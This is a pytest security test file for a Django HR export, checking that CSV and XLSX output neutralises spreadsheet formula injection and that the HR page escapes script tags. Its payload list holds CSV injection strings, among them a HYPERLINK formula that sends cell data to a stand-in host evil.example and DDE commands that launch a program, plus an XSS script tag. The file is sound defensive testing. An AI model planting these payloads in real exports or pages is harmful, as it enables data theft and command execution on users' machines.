"""HR exports (CSV and XLSX): text that a spreadsheet would run as a formula comes out inert.

Names, emails and position names are typed by people; any of them may begin with = + - @,
a tab or a carriage return. In the export such a cell begins with an apostrophe instead, and
the XLSX holds no formula at all.
"""

import csv
import io
import re
import zipfile

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from certificates.models import Position
from lms.models import AuditEntry
from lms.roles import Role
from tests.factories import CredentialTypeFactory, UserFactory
from tests.security.helpers import PROPERTY

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]
# What PostgreSQL can store in a text column: anything but NUL (and lone surrogates).
stored_text = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"))


def export(client, export_format: str, **filters) -> bytes:
    response = client.get(reverse("certificates:hr_matrix"), {"export": export_format, **filters})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def xlsx_rows(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [
        ["" if cell is None else str(cell) for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]


def assert_no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"formula in {name}"
                assert 't="f"' not in xml and "t='f'" not in xml


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), repr(cell)


def row_of(rows: list[list[str]], email: str) -> list[str]:
    """The row whose email cell ends with `email` (an XML reader reads a CR as a line feed)."""
    matches = [row for row in rows if len(row) > 1 and row[1].endswith(email)]
    assert len(matches) == 1, (email, rows)
    return matches[0]


@pytest.fixture
def hr_client(client, hr):
    # The matrix lists the people in the roles its positions apply to (and credential holders).
    position = Position(name="Peer supporter", slug="peer-supporter")
    position.applies_to_groups = [Group.objects.get(name=Role.PEER)]
    position.save()
    client.force_login(hr)
    return client


@pytest.fixture
def hostile_positions(db):
    """Positions (the export's column headers) and a credential type named like formulas."""
    credential_type = CredentialTypeFactory(name='=HYPERLINK("http://evil.example")')
    positions = []
    for number, name in enumerate(["=1+1 Peer specialist", "@Doula", "-Corrections peer"]):
        position = Position.objects.create(name=name, slug=f"hostile-{number}")
        position.required_credential_types.add(credential_type)
        positions.append(position)
    return positions


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_names_emails_and_positions_come_out_inert(
    hr_client, hostile_positions, attack
):
    person = UserFactory(roles=[Role.PEER], certificate_name=attack)
    person.email = attack[0] + person.email
    person.save(update_fields=["email"])

    csv_content, xlsx_content = export(hr_client, "csv"), export(hr_client, "xlsx")

    assert_no_formula(xlsx_content)
    for rows in (csv_rows(csv_content), xlsx_rows(xlsx_content)):
        assert_inert(rows)
        header = rows[0]
        assert {f"'{position.name}" for position in hostile_positions} <= set(header)
        row = row_of(rows, person.email[1:])
        assert row[1].startswith("'")
        assert row[0].startswith("'")
        assert row[0][1:].replace("\n", "\r") == attack.replace("\n", "\r")


@PROPERTY
@given(trigger=st.sampled_from(TRIGGERS), rest=stored_text)
def test_any_name_beginning_with_a_formula_trigger_is_neutralised(hr_client, trigger, rest):
    name = trigger + rest
    person = UserFactory(roles=[Role.PEER], certificate_name=name[:200])

    csv_content, xlsx_content = export(hr_client, "csv"), export(hr_client, "xlsx")

    assert_no_formula(xlsx_content)
    csv_table, xlsx_table = csv_rows(csv_content), xlsx_rows(xlsx_content)
    assert_inert(csv_table)
    assert_inert(xlsx_table)
    # Control characters (which XML cannot hold) are dropped, in both formats alike.
    shown = ILLEGAL_CHARACTERS_RE.sub("", person.certificate_name)
    assert row_of(csv_table, person.email)[0] == f"'{shown}"
    assert row_of(xlsx_table, person.email)[0].startswith("'")


@PROPERTY
@given(name=stored_text)
def test_any_name_at_all_exports_without_an_error(hr_client, name):
    """Control characters (which XML 1.0 cannot hold) included: the export never fails."""
    person = UserFactory(roles=[Role.PEER], certificate_name=name[:200])

    for export_format in ("csv", "xlsx"):
        content = export(hr_client, export_format)
        rows = csv_rows(content) if export_format == "csv" else xlsx_rows(content)
        assert_inert(rows)
        row_of(rows, person.email)


def test_the_matrix_page_shows_hostile_names_as_text(hr_client, hostile_positions):
    UserFactory(roles=[Role.PEER], certificate_name='<script>alert("x")</script>=1+1')

    page = hr_client.get(reverse("certificates:hr_matrix")).content.decode()

    assert '<script>alert("x")</script>' not in page
    assert "&lt;script&gt;" in page


def test_every_export_is_audited(hr_client, hr):
    before = AuditEntry.objects.filter(action="hr.export", actor=hr).count()

    export(hr_client, "csv")
    export(hr_client, "xlsx")

    assert AuditEntry.objects.filter(action="hr.export", actor=hr).count() == before + 2
